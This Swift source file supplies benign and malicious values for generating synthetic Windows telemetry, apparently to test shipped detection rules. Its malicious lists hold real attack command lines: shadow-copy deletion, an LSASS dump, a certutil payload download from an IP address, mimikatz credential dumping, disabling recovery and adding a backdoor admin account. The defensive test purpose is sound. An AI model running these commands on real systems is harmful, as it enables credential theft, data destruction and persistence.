/// Realistic values for generated Windows telemetry.
///
/// Benign values are what a busy workstation produces; malicious ones are the
/// well-known artefacts the shipped detection content looks for (Cobalt Strike
/// pipe names, encoded PowerShell, shadow-copy deletion, LSASS dumping, ...).
enum TelemetryVocabulary {
    static let users = ["CORP\\alice", "CORP\\bob", "CORP\\carol", "CORP\\svc_backup", "NT AUTHORITY\\SYSTEM",
                        "NT AUTHORITY\\LOCAL SERVICE", "NT AUTHORITY\\NETWORK SERVICE", "CORP\\dave"]
    static let integrity = ["Medium", "Medium", "Medium", "High", "System"]
    static let signers = ["Microsoft Windows", "Microsoft Corporation", "Google LLC", "Mozilla Corporation",
                          "Zoom Video Communications, Inc."]

    static let benignImages = [
        "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "C:\\Windows\\System32\\services.exe",
        "C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\System32\\spoolsv.exe",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "C:\\Windows\\System32\\cmd.exe", "C:\\Program Files\\Zoom\\bin\\Zoom.exe",
        "C:\\Windows\\System32\\taskhostw.exe", "C:\\Windows\\System32\\conhost.exe",
    ]

    /// Processes that start other processes on a healthy host.
    static let benignParents = [
        "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\svchost.exe",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "C:\\Windows\\System32\\userinit.exe",
    ]

    static let benignCommandLines = [
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
        "C:\\Windows\\Explorer.EXE", "\"C:\\Windows\\system32\\cmd.exe\" /c dir C:\\Users\\alice\\Documents",
        "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle",
        "C:\\Windows\\system32\\taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        "C:\\Windows\\System32\\spoolsv.exe", "\"C:\\Program Files\\Zoom\\bin\\Zoom.exe\" --action=join",
    ]

    static let benignPipeFormats = [
        "\\\\.\\pipe\\mojo.%d.%d.%n", "\\\\.\\pipe\\LOCAL\\crashpad_%d_%h", "\\\\.\\pipe\\wkssvc",
        "\\\\.\\pipe\\srvsvc", "\\\\.\\pipe\\spoolss", "\\\\.\\pipe\\ntsvcs", "\\\\.\\pipe\\eventlog",
        "\\\\.\\pipe\\lsass", "\\\\.\\pipe\\PIPE_EVENTROOT\\CIMV2SCM EVENT PROVIDER",
        "\\\\.\\pipe\\openssh-ssh-agent", "\\\\.\\pipe\\docker_engine", "\\\\.\\pipe\\GoogleCrashServices\\S-1-5-18",
        "\\\\.\\pipe\\TSVCPIPE-%g", "\\\\.\\pipe\\Winsock2\\CatalogChangeListener-%h-0",
    ]

    /// Malicious pipes: Cobalt Strike defaults, PsExec, LSA RPC abuse.
    static let maliciousPipeFormats = [
        "\\\\.\\pipe\\MSSE-%d-server", "\\\\.\\pipe\\postex_%h", "\\\\.\\pipe\\status_%h",
        "\\\\.\\pipe\\msagent_%h", "\\\\.\\pipe\\PSEXESVC", "\\\\.\\pipe\\postex_ssh_%h",
    ]

    static let maliciousCommandLines = [
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "vssadmin.exe delete shadows /all /quiet",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 668 C:\\Windows\\Temp\\l.dmp full",
        "certutil.exe -urlcache -split -f http://185.220.101.4/a.exe C:\\Users\\Public\\a.exe",
        "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
        "wmic.exe shadowcopy delete /nointeractive",
        "bcdedit.exe /set {default} recoveryenabled no",
        "cmd.exe /c net user /add backdoor P@ssw0rd! && net localgroup administrators backdoor /add",
    ]

    static let maliciousImages = [
        "C:\\Users\\Public\\a.exe", "C:\\Windows\\Temp\\mimikatz.exe", "C:\\Windows\\System32\\rundll32.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\System32\\vssadmin.exe",
    ]

    static let benignFilePaths = [
        "C:\\Users\\alice\\Documents\\Q3 report.docx", "C:\\Users\\bob\\Downloads\\setup.msi",
        "C:\\Windows\\Temp\\MpCmdRun.log", "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache.bin",
        "C:\\Users\\carol\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\History",
        "C:\\Windows\\System32\\winevt\\Logs\\Security.evtx", "C:\\Users\\alice\\Pictures\\IMG_2041.jpg",
        "C:\\Windows\\SoftwareDistribution\\Download\\a1b2\\update.cab",
    ]

    /// The Windows event logs among the benign paths (looked up, not searched, per event).
    static let eventLogPaths = Set(benignFilePaths.filter { $0.contains("winevt") })
    static func isEventLog(_ path: String) -> Bool { eventLogPaths.contains(path) }

    static let maliciousFilePaths = [
        "C:\\Users\\alice\\Documents\\Q3 report.docx.locked", "C:\\Users\\Public\\README_TO_DECRYPT.txt",
        "C:\\Windows\\System32\\drivers\\evil64.sys", "C:\\Users\\bob\\AppData\\Local\\Temp\\stage2.ps1",
        "C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.lnk",
        "C:\\Windows\\System32\\Tasks\\MicrosoftEdgeUpdateTaskCore",
    ]

    static let benignHosts = ["www.google.com", "outlook.office365.com", "teams.microsoft.com", "github.com",
                              "windowsupdate.microsoft.com", "zoom.us", "ocsp.digicert.com", "fileserver01.corp.local"]
    static let maliciousHosts = ["pastebin.com", "x4k9q2m7w1z3v8p0.top", "update-check.xyz", "185.220.101.4",
                                 "cdn-telemetry-sync.top"]
}
